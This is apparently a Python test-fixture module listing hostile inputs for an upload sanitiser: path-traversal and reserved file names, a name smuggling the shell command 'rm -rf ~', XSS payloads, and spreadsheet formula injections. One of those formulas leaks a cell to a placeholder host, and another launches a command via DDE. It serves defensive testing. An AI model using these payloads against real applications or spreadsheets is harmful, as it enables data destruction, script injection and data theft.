"""The hostile-input corpus shared by the tests and ``bench/prove_hostile.py``: file names, markup, formulas."""

from __future__ import annotations

__all__ = ["FILENAMES", "FORMULAS", "XSS"]

FILENAMES: dict[str, str] = {
    # what the client sends -> the name the dataset is listed under
    "../../x.csv": "x.csv",
    "..\\..\\windows\\x.csv": "x.csv",
    "/etc/passwd": "passwd",
    "a\x00b.csv": "ab.csv",
    "nul\x00": "nul",
    "invoice\u202egpj.csv": "invoicegpj.csv",  # right-to-left override: would show as invoicevsc.jpg
    "x\u2066y\u2069.csv": "xy.csv",
    "tab\tand\x1bescape.csv": "tabandescape.csv",
    "$(rm -rf ~);`id`|&>x.csv": "$(rm -rf ~);`id`|&>x.csv",
    "CON": "CON",
    "NUL.csv": "NUL.csv",
    "aux.csv": "aux.csv",
    "LPT1.csv": "LPT1.csv",
    "a" * 400 + ".csv": "a" * 255,
    "..": "upload.csv",
    "": "upload.csv",
    "<script>alert(1)</script>.csv": "script>.csv",  # a slash ends a path part, wherever it is
    "'><img src=x onerror=alert(1)>.csv": "'><img src=x onerror=alert(1)>.csv",
}

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)",
    "'><svg onload=alert(4)>",
    "</script><script>alert(5)</script>",
    "<iframe src=javascript:alert(6)>",
    "{{constructor.constructor('alert(7)')()}}",
    "<a href=\"javascript:alert(8)\">x</a>",
]

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
